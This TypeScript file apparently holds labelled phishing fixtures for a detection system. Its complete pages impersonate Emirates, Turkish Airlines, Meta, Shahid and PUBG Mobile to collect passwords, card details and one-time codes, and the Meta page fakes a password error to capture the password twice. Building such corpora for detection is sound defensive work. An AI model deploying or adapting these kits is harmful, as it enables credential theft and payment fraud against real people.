import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, wordmark, cardCss, cardFields, cardMaskJs, otpBoxes, otpJs, countdownJs, stepFlow, sendFetchForm, sendJson, sendXhr, sendTelegram, json, js } from '../parts/yl-kit.js';

export const entries: Entry[] = [
{
  id: 'yl-skywards-miles-expiry',
  label: 'phishing',
  kind: 'airline-loyalty-kit',
  url: 'https://emirates-skywards-miles.com/english/account/login',
  body: doc({
    title: 'Log in to Emirates Skywards | Emirates',
    css: cardCss({ bg: '#f7f5f2', primary: '#d71921', radius: 2, font: "Georgia,'Times New Roman',serif" }) + `.hero{background:#1c1c1c;color:#fff;padding:28px;text-align:center}.hero p{color:#c9b37e;margin:6px 0 0}.card{box-shadow:none;border:1px solid #e7e1d6}`,
    body: `<div class="hero">${wordmark('Emirates', '#d71921', { size: 30, font: 'Georgia, serif' })}<p>48,200 Skywards Miles are due to expire on ${'<span id="d"></span>'}</p></div>
<div class="wrap"><div class="card">
<div class="step on"><h1>Log in to Emirates Skywards</h1><p class="sub">Log in to extend the validity of your Miles at no cost.</p>
<form><div class="f"><label>Email or Skywards number</label><input name="id" required></div><div class="f"><label>Password</label><input type="password" name="pw" required></div><button class="btn">Log in</button></form></div>
<div class="step"><h1>Verify your card</h1><p class="sub">We'll place a temporary AED 1 hold to confirm your identity. It will be released immediately.</p><form>${cardFields({ name: 'Name on card', number: 'Card number', exp: 'Expiry', cvv: 'Security code' })}<button class="btn">Extend my Miles</button></form></div>
<div class="step"><h1>One-time passcode</h1><form>${otpBoxes()}<button class="btn">Submit</button></form></div>
</div><footer>© 2025 The Emirates Group</footer></div>
<script>${cardMaskJs}${otpJs}var d=new Date();d.setDate(d.getDate()+2);document.getElementById('d').textContent=d.toLocaleDateString('en-GB',{day:'numeric',month:'long',year:'numeric'});</script>
${stepFlow({ send: sendFetchForm('/english/account/next.php'), finalUrl: 'https://www.emirates.com/english/skywards/' })}`,
  }),
  routes: { 'emirates-skywards-miles.com/english/account/next.php': json({ ok: 1 }) },
},
{
  id: 'yl-thy-free-ticket-survey',
  label: 'phishing',
  kind: 'airline-survey-kit',
  url: 'https://thy-ucretsiz-bilet.com/anket/',
  body: doc({
    title: 'Türk Hava Yolları - 2 Ücretsiz Bilet',
    lang: 'tr',
    css: cardCss({ bg: '#f1f1f1', primary: '#c70a0c', radius: 10 }) + `.q{display:none}.q.on{display:block}.opt{display:block;width:100%;padding:12px;margin:8px 0;border:1px solid #ddd;border-radius:8px;background:#fff;text-align:left;font-size:15px;cursor:pointer}.opt:hover{border-color:#c70a0c}`,
    body: `<div class="wrap"><div class="logo">${wordmark('TURKISH AIRLINES', '#c70a0c', { size: 20 })}</div><div class="card">
<div id="quiz"><h1>Türk Hava Yolları anketi</h1><p class="sub">Anketi tamamlayın ve dünyanın her yerine geçerli 2 ücretsiz bilet kazanın!</p>
<div class="q on"><p><b>1/3</b> Bizimle ne sıklıkla seyahat ediyorsunuz?</p><button class="opt">Yılda birkaç kez</button><button class="opt">Yılda bir kez</button><button class="opt">Nadiren</button></div>
<div class="q"><p><b>2/3</b> Hizmetlerimizi nasıl değerlendirirsiniz?</p><button class="opt">Mükemmel</button><button class="opt">İyi</button><button class="opt">Orta</button></div>
<div class="q"><p><b>3/3</b> Miles&amp;Smiles üyesi misiniz?</p><button class="opt">Evet</button><button class="opt">Hayır</button></div></div>
<div class="step"><h1>Tebrikler! 🎉</h1><p class="sub">2 ücretsiz bilet kazandınız. Rezervasyonunuzu onaylamak için sadece 1,99 TL işlem ücreti ödemeniz gerekmektedir.</p>
<form><div class="f"><label>Ad Soyad</label><input name="ad" required></div><div class="f"><label>E-posta</label><input name="mail" type="email" required></div>${cardFields({ name: 'Kart sahibi', number: 'Kart numarası', exp: 'AA/YY', cvv: 'CVV' })}<button class="btn">1,99 TL Öde ve Onayla</button></form></div>
<div class="step"><h1>Doğrulama</h1><p class="sub">Bankanızdan gelen tek kullanımlık şifreyi girin.</p><form>${otpBoxes()}<button class="btn">Onayla</button></form></div>
</div><footer>© Türk Hava Yolları A.O.</footer></div>
<script>${cardMaskJs}${otpJs}
(function(){var qs=document.querySelectorAll('.q'),i=0;document.querySelectorAll('.opt').forEach(function(b){b.onclick=function(){qs[i].classList.remove('on');i++;if(qs[i])qs[i].classList.add('on');else{document.getElementById('quiz').style.display='none';document.querySelector('.step').classList.add('on')}}})})();</script>
${stepFlow({ send: sendJson('/anket/kaydet'), finalUrl: 'https://www.turkishairlines.com/tr-tr/' })}`,
  }),
  routes: { 'thy-ucretsiz-bilet.com/anket/kaydet': json({ ok: 1 }) },
},
{
  id: 'yl-meta-page-appeal-arabic',
  label: 'phishing',
  kind: 'social-appeal-kit',
  url: 'https://meta-business-appeals-center.com/ar/case/103847721/',
  body: doc({
    title: 'Meta for Business – مركز الطعون',
    lang: 'ar',
    css: cardCss({ bg: '#f0f2f5', primary: '#0866ff', radius: 8, width: 520 }) + `.hd{background:#fff;padding:12px 22px;box-shadow:0 1px 2px rgba(0,0,0,.1)}.case{background:#fff8e6;border-radius:6px;padding:12px;font-size:13px;line-height:1.7;margin-bottom:16px}`,
    body: `<div class="hd">${wordmark('Meta', '#0866ff', { size: 26 })}</div><div class="wrap"><div class="card">
<div class="step on"><h1>تم تقييد صفحتك</h1><div class="case">رقم الحالة: <b dir="ltr">#103847721</b><br>تلقينا بلاغاً بانتهاك صفحتك لحقوق الملكية الفكرية. إذا كنت تعتقد أن هذا خطأ، يمكنك تقديم طعن خلال 24 ساعة، وإلا سيتم حذف الصفحة نهائياً.</div>
<form><div class="f"><label>الاسم الكامل</label><input name="name" required></div><div class="f"><label>البريد الإلكتروني للعمل</label><input name="email" type="email" dir="ltr" required></div><div class="f"><label>اسم الصفحة</label><input name="page" required></div><div class="f"><label>رقم الهاتف</label><input name="phone" dir="ltr" required></div><div class="f"><label>تفاصيل الطعن</label><input name="note"></div><button class="btn">إرسال</button></form></div>
<div class="step"><h1>لحماية أمانك، أدخل كلمة السر</h1><p class="sub">لمواصلة الطعن، يرجى تأكيد كلمة السر الخاصة بحساب فيسبوك.</p><div class="err" id="e">كلمة السر التي أدخلتها غير صحيحة. حاول مرة أخرى.</div><form id="pf"><div class="f"><label>كلمة السر</label><input type="password" name="password" required></div><button class="btn">متابعة</button></form></div>
<div class="step"><h1>المصادقة الثنائية مطلوبة</h1><p class="sub">أدخل الرمز المكون من 6 أرقام من تطبيق المصادقة أو رسالة SMS.</p><form>${otpBoxes()}<button class="btn">إرسال</button></form></div>
<div class="step"><h1>تم استلام طعنك</h1><p class="sub">سنراجع طلبك خلال 24 ساعة وسنبلغك بالنتيجة عبر البريد الإلكتروني.</p><form></form></div>
</div><footer>Meta © 2025 · الخصوصية · الشروط</footer></div>
<script>${otpJs}
(function(){var n=0,pf=document.getElementById('pf');pf.addEventListener('submit',function(e){n++;if(n===1){e.stopImmediatePropagation();e.preventDefault();var d=new FormData(pf);fetch('/ar/case/api.php',{method:'POST',body:d});document.getElementById('e').style.display='block';pf.password.value='';}},true)})();</script>
${stepFlow({ send: sendFetchForm('/ar/case/api.php'), finalUrl: 'https://www.facebook.com/help/', delayMs: 5000 })}`,
  }),
  routes: { 'meta-business-appeals-center.com/ar/case/api.php': json({ status: 'ok' }) },
},
{
  id: 'yl-shahid-vip-payment-failed',
  label: 'phishing',
  kind: 'streaming-kit',
  url: 'https://shahid-vip-billing.com/ar/account/payment',
  body: doc({
    title: 'شاهد VIP | تحديث طريقة الدفع',
    lang: 'ar',
    css: cardCss({ bg: '#0d0d0d', primary: '#1fb36b', text: '#eee', radius: 8 }) + `.card{background:#1a1a1a;color:#eee}.f label{color:#bbb}.f input{background:#262626;border-color:#333;color:#fff}p.sub{color:#aaa}.al{background:#3a1a1a;color:#ff8a80;padding:10px;border-radius:6px;font-size:13px;margin-bottom:14px}`,
    body: `<div class="wrap"><div class="logo">${wordmark('shahid', '#1fb36b', { size: 34 })}</div><div class="card">
<div class="step on"><h1>تسجيل الدخول</h1><div class="al">تعذر تجديد اشتراك VIP الخاص بك. سيتم إيقاف الاشتراك خلال 24 ساعة.</div>
<form><div class="f"><label>البريد الإلكتروني</label><input name="email" type="email" dir="ltr" required></div><div class="f"><label>كلمة المرور</label><input name="password" type="password" required></div><button class="btn">تسجيل الدخول</button></form></div>
<div class="step"><h1>تحديث طريقة الدفع</h1><p class="sub">الباقة: VIP | BigTime — 29.99 ر.س / شهرياً</p><form>${cardFields({ name: 'الاسم على البطاقة', number: 'رقم البطاقة', exp: 'تاريخ الانتهاء', cvv: 'CVV' })}<button class="btn">حفظ ومتابعة</button></form></div>
<div class="step"><h1>تأكيد العملية</h1><p class="sub">أدخل رمز التحقق المرسل من البنك.</p><form>${otpBoxes()}<button class="btn">تأكيد</button></form></div>
</div><footer>© MBC GROUP 2025</footer></div>
<script>${cardMaskJs}${otpJs}</script>
${stepFlow({ send: sendXhr('/ar/account/save'), finalUrl: 'https://shahid.mbc.net/ar' })}`,
  }),
  routes: { 'shahid-vip-billing.com/ar/account/save': json({ ok: true }) },
},
{
  id: 'yl-pubg-uc-event-fb-login',
  label: 'phishing',
  kind: 'game-giveaway-kit',
  url: 'https://pubgm-midasbuy-uc.com/event/ramadan',
  body: doc({
    title: 'PUBG MOBILE | Ramadan UC Event',
    css: `*{box-sizing:border-box}body{margin:0;background:#111 url('/event/img/bg.jpg') center/cover;font-family:Arial,sans-serif;color:#fff}.h{text-align:center;padding:24px;background:rgba(0,0,0,.5)}.h h1{color:#f7c600;margin:8px 0}
.grid{display:grid;grid-template-columns:repeat(3,1fr);gap:12px;max-width:560px;margin:20px auto;padding:0 12px}.it{background:rgba(0,0,0,.6);border:1px solid #f7c60055;border-radius:8px;padding:14px;text-align:center;cursor:pointer}.it b{display:block;color:#f7c600;font-size:22px}.it small{color:#aaa}
.ov{position:fixed;inset:0;background:rgba(0,0,0,.75);display:none;align-items:center;justify-content:center}.ov.on{display:flex}.lb{background:#fff;color:#1c1e21;width:360px;border-radius:8px;padding:20px}.lb h3{margin:0 0 12px;color:#1877f2;font-size:28px;text-align:center}.lb input{width:100%;height:44px;border:1px solid #dddfe2;border-radius:6px;padding:0 12px;font-size:15px;margin:6px 0}.lb button{width:100%;height:44px;background:#1877f2;color:#fff;border:0;border-radius:6px;font-size:17px;font-weight:bold;margin-top:6px}
.btns{display:flex;gap:10px;justify-content:center;margin:10px}.btns button{padding:12px 18px;border:0;border-radius:6px;font-size:15px;color:#fff;cursor:pointer}`,
    body: `<div class="h">${wordmark('PUBG MOBILE', '#f7c600', { size: 26 })}<h1>Ramadan Kareem Free UC</h1><p>Choose your reward and log in to claim. Event ends in <b id="t">02:59:41</b></p></div>
<div class="grid">${[['600 UC', 'Free'], ['1800 UC', 'Free'], ['3850 UC', 'Free'], ['8100 UC', 'Free'], ['M416 Glacier', 'Skin'], ['Royale Pass', 'A8']].map(([a, b]) => `<div class="it"><b>${a}</b><small>${b}</small></div>`).join('')}</div>
<div class="btns"><button style="background:#1877f2" data-l="fb">Login with Facebook</button><button style="background:#111;border:1px solid #fff" data-l="tw">Login with X</button></div>
<div class="ov" id="ov"><div class="lb"><h3>facebook</h3><p style="font-size:14px;text-align:center">Log in to your Facebook account to connect to PUBG MOBILE.</p><form id="fb"><input name="email" placeholder="Email or phone number" required><input name="pass" type="password" placeholder="Password" required><input type="hidden" name="src" value="pubg"><button>Log In</button></form></div></div>
<script>
document.querySelectorAll('[data-l],.it').forEach(function(b){b.onclick=function(){document.getElementById('ov').classList.add('on')}});
document.getElementById('fb').onsubmit=function(e){e.preventDefault();var d=new FormData(this);d.append('ip','');fetch('/event/check.php',{method:'POST',body:d}).then(function(r){return r.json()}).then(function(){document.querySelector('.lb').innerHTML='<p style="text-align:center;padding:20px">Your UC will be delivered to your account within 24 hours.</p>';setTimeout(function(){location.href='https://www.pubgmobile.com/'},3000)})};
</script>`,
  }),
  routes: { 'pubgm-midasbuy-uc.com/event/check.php': json({ status: 'success' }) },
},
];
